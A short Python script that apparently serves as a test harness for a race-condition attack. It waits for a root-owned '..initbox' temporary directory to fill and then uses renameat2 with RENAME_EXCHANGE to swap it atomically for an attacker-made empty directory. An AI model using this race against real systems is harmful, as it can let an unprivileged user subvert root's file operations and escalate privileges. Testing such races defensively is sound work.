"""Exchanges the first folder of root that appears in a folder, once five entries are in it, for an empty one."""
import ctypes, os, select, sys

libc = ctypes.CDLL(None, use_errno=True)
os.chdir(sys.argv[1])
print("ready", flush=True)
done = False
while not select.select([sys.stdin], [], [], 0.001)[0]:
    for entry in os.scandir("."):
        if done or not entry.name.startswith("..initbox") or not entry.is_dir(follow_symlinks=False):
            continue
        try:
            if entry.stat(follow_symlinks=False).st_uid != 0 or len(os.listdir(entry.name)) < 5:
                continue
        except OSError:
            continue
        os.mkdir("other")
        if libc.renameat2(-100, entry.name.encode(), -100, b"other", 2) == 0:
            done = True
            print("exchanged", flush=True)
